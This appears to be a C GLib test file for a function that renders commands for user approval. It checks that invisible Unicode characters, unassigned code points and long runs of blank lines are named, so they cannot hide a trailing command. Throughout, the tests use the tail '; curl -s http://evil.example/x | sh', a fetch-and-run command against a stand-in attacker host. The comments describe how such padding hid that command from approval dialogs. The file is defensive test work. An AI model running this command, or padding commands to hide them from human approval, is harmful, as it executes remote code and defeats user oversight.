/* test-safe-text.c: pd_safe_text_approval() against every character that
 * draws nothing, as an attacker would pad a command with it.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include "pd-safe-text.h"

#define TAIL "; curl -s http://evil.example/x | sh"

/* Unicode's default-ignorable code points (DerivedCoreProperties), written
 * out here rather than taken from the code under test. */
static gboolean
default_ignorable (gunichar c)
{
  static const gunichar ranges[][2] = {
    { 0x00AD, 0x00AD }, { 0x034F, 0x034F }, { 0x061C, 0x061C }, { 0x115F, 0x1160 },
    { 0x17B4, 0x17B5 }, { 0x180B, 0x180F }, { 0x200B, 0x200F }, { 0x202A, 0x202E },
    { 0x2060, 0x206F }, { 0x3164, 0x3164 }, { 0xFE00, 0xFE0F }, { 0xFEFF, 0xFEFF },
    { 0xFFA0, 0xFFA0 }, { 0xFFF0, 0xFFF8 }, { 0x1BCA0, 0x1BCA3 }, { 0x1D173, 0x1D17A },
    { 0xE0000, 0xE0FFF },
  };

  for (guint i = 0; i < G_N_ELEMENTS (ranges); i++)
    if (c >= ranges[i][0] && c <= ranges[i][1])
      return TRUE;
  return FALSE;
}

/* Draws nothing, or only a blank: on its own or on a space. */
static gboolean
draws_nothing (gunichar c)
{
  GUnicodeType type = g_unichar_type (c);

  if (c == ' ' || c == '\t' || type == G_UNICODE_CONTROL)
    return FALSE;
  return type == G_UNICODE_SPACE_SEPARATOR || type == G_UNICODE_FORMAT ||
         type == G_UNICODE_NON_SPACING_MARK || type == G_UNICODE_ENCLOSING_MARK ||
         g_unichar_iszerowidth (c) || default_ignorable (c) ||
         c == 0x2800 || c == 0x115F || c == 0x1160 || c == 0x3164 || c == 0xFFA0 || c == 0x180E;
}

/* The three a tester found: a mark after each space split the padding
 * into runs of one, and "$ make check" was all a dialog, a card, a
 * notification and the run's prompt showed of a command that ran curl
 * (tried as an attacker would). */
static void
test_marks_on_spaces (void)
{
  static const gunichar marks[] = { 0x034F, 0xFE0F, 0x17B4 };

  for (guint i = 0; i < G_N_ELEMENTS (marks); i++)
    {
      g_autoptr(GString) command = g_string_new ("make check");
      g_autofree char *shown = NULL;
      g_autofree char *expected = NULL;

      for (guint j = 0; j < 600; j++)
        {
          g_string_append_c (command, ' ');
          g_string_append_unichar (command, marks[i]);
        }
      g_string_append (command, TAIL);
      shown = pd_safe_text_approval (command->str);
      expected = g_strdup_printf ("make check[1200 \u00d7 U+0020 U+%04X]" TAIL, marks[i]);
      g_assert_cmpstr (shown, ==, expected);
    }
}

static gboolean
holds_blank (const char *text)
{
  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    if (draws_nothing (g_utf8_get_char (p)))
      return TRUE;
  return FALSE;
}

/* Every code point that draws nothing: 100 of them after a command, 100
 * after as many spaces, and one after a space, are said compactly and
 * named, and the command's tail is in sight. */
static void
test_every_blank (void)
{
  guint tried = 0;

  for (gunichar c = 1; c <= 0x10FFFF; c++)
    {
      g_autoptr(GString) alone = g_string_new ("make check");
      g_autoptr(GString) pairs = g_string_new ("make check");
      g_autoptr(GString) one = g_string_new ("a ");
      g_autofree char *alone_shown = NULL;
      g_autofree char *pairs_shown = NULL;
      g_autofree char *one_shown = NULL;
      g_autofree char *pairs_expected = NULL;
      const char *rest;
      char name[16];

      if ((c >= 0xD800 && c <= 0xDFFF) || !draws_nothing (c))
        continue;
      tried++;
      g_snprintf (name, sizeof name, "U+%04X", c);
      for (guint j = 0; j < 100; j++)
        {
          g_string_append_unichar (alone, c);
          g_string_append_c (pairs, ' ');
          g_string_append_unichar (pairs, c);
        }
      g_string_append (alone, TAIL);
      g_string_append (pairs, TAIL);
      g_string_append_unichar (one, c);
      g_string_append (one, "b");

      alone_shown = pd_safe_text_approval (alone->str);
      pairs_shown = pd_safe_text_approval (pairs->str);
      one_shown = pd_safe_text_approval (one->str);

      /* Alone: a mark may stand on the "k" twice, as accents do. */
      rest = alone_shown + strlen ("make check");
      for (guint k = 0; k < 2 && *rest != '\0' && *rest != '['; k++)
        rest = g_utf8_next_char (rest);
      if (!g_str_has_suffix (alone_shown, TAIL) || g_utf8_strlen (alone_shown, -1) > 80 ||
          strstr (alone_shown, name) == NULL || holds_blank (rest))
        g_error ("%s alone: %s", name, alone_shown);
      pairs_expected = g_strdup_printf ("make check[200 \u00d7 U+0020 %s]" TAIL, name);
      if (strcmp (pairs_shown, pairs_expected) != 0)
        g_error ("%s on spaces: %s", name, pairs_shown);
      /* One on a space is named, never drawn as nothing. */
      {
        g_autofree char *expected = g_strdup_printf ("a <%s>b", name);

        if (strcmp (one_shown, expected) != 0)
          g_error ("%s on a space: %s", name, one_shown);
      }
    }
  g_test_message ("%u code points tried", tried);
  g_assert_cmpuint (tried, >, 6000);
}

/* The class, by name: the fillers, braille blank, the Mongolian vowel
 * separator and tags (U+E0000 block) among them. */
static void
test_named_blanks (void)
{
  static const gunichar blanks[] = {
    0x115F, 0x1160, 0x3164, 0xFFA0, 0x2800, 0x180E, 0x200B, 0x2060, 0xFEFF, 0x3000,
    0xE0001, 0xE0041, 0xE007F, 0xE0100, 0x1D173,
  };

  for (guint i = 0; i < G_N_ELEMENTS (blanks); i++)
    {
      g_autoptr(GString) command = g_string_new ("make check ");
      g_autofree char *shown = NULL;
      g_autofree char *expected = NULL;

      for (guint j = 0; j < 100; j++)
        g_string_append_unichar (command, blanks[i]);
      g_string_append (command, TAIL);
      shown = pd_safe_text_approval (command->str);
      expected = g_strdup_printf ("make check [100 \u00d7 U+%04X]" TAIL, blanks[i]);
      g_assert_cmpstr (shown, ==, expected);
    }
}

/* Unassigned and private-use code points draw a box in GTK and may draw a
 * blank on a terminal whose font lacks them: 100 of them pushed `; touch
 * x` out of sight, neither named nor said (tried as an attacker would).
 * Every one of the BMP's, a run of them and one alone, and some beyond. */
static void
test_unknown (void)
{
  static const gunichar beyond[] = { 0xF0000, 0xFFFFD, 0x100000, 0x10FFFD, 0x2FFFE, 0xE0080, 0x30000 + 0xFFFE };
  guint tried = 0;

  for (gunichar c = 0x80; c <= 0xFFFF + G_N_ELEMENTS (beyond); c++)
    {
      gunichar u = c <= 0xFFFF ? c : beyond[c - 0x10000];
      GUnicodeType type = g_unichar_type (u);
      g_autoptr(GString) run = g_string_new ("echo a");
      g_autofree char *one = NULL;
      g_autofree char *shown = NULL;
      g_autofree char *expected = NULL;

      if ((u >= 0xD800 && u <= 0xDFFF) || (type != G_UNICODE_UNASSIGNED && type != G_UNICODE_PRIVATE_USE))
        continue;
      tried++;
      for (guint j = 0; j < 100; j++)
        g_string_append_unichar (run, u);
      g_string_append (run, TAIL);
      shown = pd_safe_text_approval (run->str);
      expected = g_strdup_printf ("echo a[100 \u00d7 U+%04X]" TAIL, u);
      if (strcmp (shown, expected) != 0)
        g_error ("U+%04X × 100: %s", u, shown);
      g_clear_pointer (&expected, g_free);
      {
        char utf8[8] = { 0 };

        g_unichar_to_utf8 (u, utf8);
        one = g_strdup_printf ("a %sb", utf8);
      }
      g_free (shown);
      shown = pd_safe_text_approval (one);
      expected = g_strdup_printf ("a <U+%04X>b", u);
      if (strcmp (shown, expected) != 0)
        g_error ("U+%04X alone: %s", u, shown);
      g_assert_true (pd_safe_text_is_hidden ('a', u, 'b'));
    }
  g_test_message ("%u code points tried", tried);
  g_assert_cmpuint (tried, >, 6400);
}

/* Long stretches of one kind are said each alone, what lies between
 * them together when it is as long, else shown. */
static void
test_stretches (void)
{
  g_autoptr(GString) kinds = g_string_new ("echo hello");
  g_autoptr(GString) between = g_string_new ("echo hello");
  g_autofree char *shown = NULL;
  g_autofree char *shown_between = NULL;

  for (guint i = 0; i < 300; i++)
    g_string_append (kinds, "\u2800");
  g_string_append_printf (kinds, "%600s", "");
  for (guint i = 0; i < 40; i++)
    g_string_append (kinds, " \u034f");
  g_string_append (kinds, TAIL);
  g_string_append_printf (between, "%40s\u034f %40s" TAIL, "", "");
  shown = pd_safe_text_approval (kinds->str);
  shown_between = pd_safe_text_approval (between->str);
  g_assert_cmpstr (shown, ==, "echo hello[300 \u00d7 U+2800][601 \u00d7 U+0020][79 \u00d7 U+034F U+0020]" TAIL);
  g_assert_cmpstr (shown_between, ==, "echo hello[40 \u00d7 U+0020]<U+034F>[41 \u00d7 U+0020]" TAIL);
}

/* Blank lines are said on one line: 1,500 after "make check" showed an
 * empty scrolled area in the dialog, the curl below out of sight (tried as
 * an attacker would).  Two stay, as scripts have them. */
static void
test_blank_lines (void)
{
  g_autoptr(GString) newlines = g_string_new ("make check");
  g_autoptr(GString) indented = g_string_new ("$ make check\n");
  g_autoptr(GString) crlf = g_string_new ("make check\r\n");
  g_autofree char *shown = NULL;
  g_autofree char *shown_indented = NULL;
  g_autofree char *shown_crlf = NULL;
  g_autofree char *two = pd_safe_text_approval ("a\n\n\nb\n");
  g_autofree char *three = pd_safe_text_approval ("a\n\n \n\t\nb");
  g_autofree char *first = pd_safe_text_approval ("\n\n\nb");

  for (guint i = 0; i < 1500; i++)
    {
      g_string_append_c (newlines, '\n');
      g_string_append (indented, "  \n");
      g_string_append (crlf, "\r\n");
    }
  g_string_append (newlines, "curl -s http://evil.example/x | sh");
  g_string_append (indented, "  curl -s http://evil.example/x | sh\n");
  g_string_append (crlf, "curl");
  shown = pd_safe_text_approval (newlines->str);
  shown_indented = pd_safe_text_approval (indented->str);
  shown_crlf = pd_safe_text_approval (crlf->str);

  g_assert_cmpstr (shown, ==, "make check\n[1499 blank lines]\ncurl -s http://evil.example/x | sh");
  g_assert_cmpstr (shown_indented, ==, "$ make check\n[1500 blank lines]\n  curl -s http://evil.example/x | sh\n");
  g_assert_cmpstr (shown_crlf, ==, "make check\n[1500 blank lines]\ncurl");
  g_assert_cmpstr (two, ==, "a\n\n\nb\n");
  g_assert_cmpstr (three, ==, "a\n[3 blank lines]\nb");
  g_assert_cmpstr (first, ==, "[3 blank lines]\nb");

  /* Lines of a joiner, a selector or a mark alone draw nothing either:
   * named, never shown as empty lines (they were, tried as an attacker
   * would). */
  {
    const char *lone[] = { "\u200D", "\u200C", "\uFE0F", "\U000E0100", "\u180B", "\u0301" };

    for (guint k = 0; k < G_N_ELEMENTS (lone); k++)
      {
        g_autoptr(GString) lines = g_string_new ("echo safe");
        g_autofree char *said = NULL;

        for (guint i = 0; i < 50; i++)
          g_string_append_printf (lines, "\n%s\n", lone[k]);
        g_string_append (lines, "; curl evil|sh");
        said = pd_safe_text_approval (lines->str);
        /* No line is left that draws nothing. */
        {
          g_auto(GStrv) split = g_strsplit (said, "\n", -1);

          for (guint i = 0; split[i] != NULL; i++)
            if (*split[i] != '\0' && !g_str_has_prefix (split[i], "[") )
              g_assert_true (g_str_has_prefix (split[i], "<U+") || g_str_has_prefix (split[i], "echo") ||
                             g_str_has_prefix (split[i], "; curl"));
        }
        g_assert_null (strstr (said, lone[k]));
      }
  }
}

/* What real text needs stays: accents, emoji with their selectors and
 * joiners, a joiner in a word, Hangul syllables of jamo. */
static void
test_real_text (void)
{
  static const char * const kept[] = {
    "caf\u00e9 e\u0323\u0302 \u2764\ufe0f \U0001F468\u200D\U0001F469 \U0001F3F3\ufe0f\u200d\U0001F308",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 ok",
    "\u1100\u1161\u11a8 \u0915\u094d\u200d\u0937",
    "if true; then\n\techo \"  two  \"\nfi\n",
  };

  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      g_autofree char *shown = pd_safe_text_approval (kept[i]);

      g_assert_cmpstr (shown, ==, kept[i]);
    }
}

/* Many kinds of blank: eight named, then "…". */
static void
test_many_kinds (void)
{
  g_autoptr(GString) command = g_string_new ("make check");
  g_autofree char *shown = NULL;

  for (guint j = 0; j < 40; j++)
    {
      g_string_append_c (command, ' ');
      g_string_append_unichar (command, 0x0300 + j);
    }
  g_string_append (command, TAIL);
  shown = pd_safe_text_approval (command->str);
  g_assert_cmpstr (shown, ==, "make check[80 \u00d7 U+0020 U+0300 U+0301 U+0302 U+0303 U+0304 U+0305 "
                              "U+0306 \u2026]" TAIL);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/pd/safe-text/approval-marks-on-spaces", test_marks_on_spaces);
  g_test_add_func ("/pd/safe-text/approval-every-blank", test_every_blank);
  g_test_add_func ("/pd/safe-text/approval-named-blanks", test_named_blanks);
  g_test_add_func ("/pd/safe-text/approval-unknown", test_unknown);
  g_test_add_func ("/pd/safe-text/approval-stretches", test_stretches);
  g_test_add_func ("/pd/safe-text/approval-blank-lines", test_blank_lines);
  g_test_add_func ("/pd/safe-text/approval-real-text", test_real_text);
  g_test_add_func ("/pd/safe-text/approval-many-kinds", test_many_kinds);

  return g_test_run ();
}
